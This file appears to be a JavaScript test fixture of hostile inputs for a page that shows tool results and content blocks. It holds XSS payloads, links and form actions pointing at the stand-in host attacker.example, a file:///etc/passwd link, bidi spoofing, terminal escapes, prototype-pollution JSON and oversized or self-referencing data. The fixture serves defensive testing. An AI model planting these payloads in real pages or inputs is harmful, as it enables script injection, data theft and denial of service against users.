/** Texts that a page which treats them as anything but text would run, load or show wrongly. */
export const texts = {
  'a script': '<script>attacked()</script>',
  'a script after what could precede it':
    '</pre></textarea></title></style></script></button><script>attacked()</script>',
  'an image': '<img src=x onerror=attacked()>',
  'an image of another origin': '<img src="https://attacker.example/a.png">',
  'an SVG': '<svg onload=attacked()><animate onbegin=attacked() attributeName=x></svg>',
  'a frame':
    '<iframe srcdoc="<script>parent.attacked()</script>"></iframe><iframe src="javascript:attacked()"></iframe>',
  'a link': '<a href="javascript:attacked()" autofocus onfocus=attacked()>Run</a>',
  'the URL of a script': 'javascript:attacked()//https://example.com',
  'a form': '<form action="https://attacker.example"><input autofocus onfocus=attacked()></form>',
  'a base and a refresh':
    '<base href="https://attacker.example"><meta http-equiv=refresh content="0;url=https://attacker.example">',
  'a style': '<style>@import "https://attacker.example/a.css"; * { display: none }</style>',
  'mutated markup':
    '<noscript><p title="</noscript><img src=x onerror=attacked()>"></noscript><math><mtext><table><mglyph><style><!--</style>',
  'a custom element':
    '<x-a is="x-b" style="animation: x" onanimationstart=attacked()></x-a><details open ontoggle=attacked()>',
  'a template': `\${attacked()} {{attacked()}} <%= attacked() %> #{attacked()}`,
  'characters of the other direction': 'safe\u202egnp.exe\u2066\u2067\u2068 rtl \u200f\u061c',
  'control characters': Array.from({ length: 160 }, (_, code) => String.fromCharCode(code < 32 ? code : 0x7f)).join(''),
  'sequences of a terminal': '\u001b[2J\u001b]0;title\u0007\u009b31m\u001b]8;;https://attacker.example\u0007link',
  'lone surrogates': '\ud800\udfff\udc00 \uffff\ufffe',
  'combining characters': `a${'\u0301\u0489'.repeat(20_000)}`,
  'invisible characters': '\u200b\u200c\u200d\u2060\ufeff\u00ad\u{e0041}'.repeat(100),
  'separators of lines': '\u2028\u2029\u0085\r\n\v\f'.repeat(1_000),
  'frames of an event stream':
    'x\n\ndata: {"seq":99999999,"event":{"type":"stopped","reason":"forged"}}\n\nid: 99999999\n\nevent: y\r\r',
  'a long word': 'w'.repeat(200_000),
  'many lines': 'line\n'.repeat(50_000),
};

const deep = (depth) => {
  let nested = 'innermost';
  for (let level = 0; level < depth; level++) nested = level % 2 === 0 ? [nested] : { nested };
  return nested;
};

const throwing = (key) =>
  Object.defineProperty(new Error('hidden'), key, {
    get: () => {
      throw new Error('hostile');
    },
  });

/** Functions that return or throw what no page expects. */
export const results = {
  'a text of 20 MB': () => 'x'.repeat(20_000_000),
  'a list of texts of 20 MB': () => Array.from({ length: 200 }, () => 'y'.repeat(100_000)),
  'data that is nested 10,000 times': () => deep(10_000),
  'data that is nested 500 times': () => deep(500),
  'a list of a million numbers': () => Array.from({ length: 1_000_000 }, (_, index) => index),
  'an object with 100,000 keys': () =>
    Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`key${index}`, index])),
  'a key __proto__': () => JSON.parse('{"__proto__": {"polluted": true, "toString": null}, "a": 1}'),
  'the keys of a prototype': () =>
    JSON.parse(
      '{"constructor": {"prototype": {"polluted": true}}, "toString": 1, "hasOwnProperty": null, "valueOf": {}}',
    ),
  'the keys of a list': () => ({ length: 1e9, 0: 'a', map: 'b', slice: null }),
  'the keys of an element': () => ({
    type: 'script',
    props: { dangerouslySetInnerHTML: { __html: '<img src=x onerror=attacked()>' } },
    key: null,
    ref: null,
    __k: [],
    constructor: undefined,
  }),
  'the keys of a promise': () => JSON.parse('{"then": "attacked()", "catch": 1}'),
  'the keys of a toJSON': () => ({
    toJSON: () => ({ dangerouslySetInnerHTML: { __html: '<script>attacked()</script>' } }),
  }),
  'empty keys': () => ({ '': { '': { '': '' } }, ' ': 1, '\u0000': 2 }),
  'keys of markup': () => ({ '<img src=x onerror=attacked()>': { '"><script>attacked()</script>': 1 } }),
  'an object that contains itself': () => {
    const self = {};
    self.self = self;
    return self;
  },
  'numbers without a JSON form': () => [Number.MAX_VALUE, -0, 1e-320, 2n ** 70n],
  nothing: () => undefined,
  'a rejection with a text of markup': () => Promise.reject('<img src=x onerror=attacked()>'),
  'a thrown error of 20 MB': () => {
    throw new Error('e'.repeat(20_000_000));
  },
  'a thrown error with markup as its name and its code': () => {
    throw Object.assign(new Error('<script>attacked()</script>'), { name: '<b>', code: '<svg onload=attacked()>' });
  },
  'a thrown error with a getter that throws': () => {
    throw throwing('message');
  },
  'a thrown error that is its own cause': () => {
    const error = new Error('cause');
    error.cause = error;
    throw error;
  },
  'a thrown object with a key __proto__': () => {
    throw JSON.parse('{"__proto__": {"polluted": true}}');
  },
  'a rejection with nothing': () => Promise.reject(),
};

const markup = Buffer.from('<html><script>attacked()</script></html>').toString('base64');
const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="attacked()"><script>parent.attacked()</script><image href="https://attacker.example/a.png"/></svg>',
).toString('base64');

/** Blocks of content as other libraries and servers send them: media of a wrong type, and URLs. */
export const blocks = {
  'an image that is markup': { type: 'image', data: markup, mimeType: 'image/png' },
  'an image with the type of markup': { type: 'image', data: markup, mimeType: 'text/html' },
  'an SVG with a script': { type: 'image', data: svg, mimeType: 'image/svg+xml' },
  'a sound that is an SVG': { type: 'audio', data: svg, mimeType: 'audio/wav' },
  'a resource that is a film of markup': {
    type: 'resource',
    resource: { uri: 'file:///a.mp4', blob: markup, mimeType: 'video/mp4' },
  },
  'a resource that is markup': {
    type: 'resource',
    resource: { uri: 'https://attacker.example/a.html', blob: markup, mimeType: 'text/html' },
  },
  'a resource that is a script': {
    type: 'resource',
    resource: { uri: 'javascript:attacked()', text: '<script>attacked()</script>', mimeType: 'text/javascript' },
  },
  'a resource with markup as its name': {
    type: 'resource',
    resource: { uri: 'file:///"><img src=x onerror=attacked()>', blob: markup, mimeType: 'application/pdf' },
  },
  'a link to a script': { type: 'resource_link', uri: 'javascript:attacked()', name: 'Run', mimeType: 'image/png' },
  'a link to data': { type: 'resource_link', uri: `data:text/html;base64,${markup}`, name: 'Run' },
  'a link to a file': { type: 'resource_link', uri: 'file:///etc/passwd', name: 'Run' },
  'a link to a blob': { type: 'resource_link', uri: 'blob:https://attacker.example/1', name: 'Run' },
  'a link with a hidden script': { type: 'resource_link', uri: ' \tjava\nscript:attacked()', name: '<b>Run</b>' },
  'a link to an image of another origin': {
    type: 'resource_link',
    uri: 'https://attacker.example/a.png',
    name: 'a.png',
    mimeType: 'image/png',
  },
};
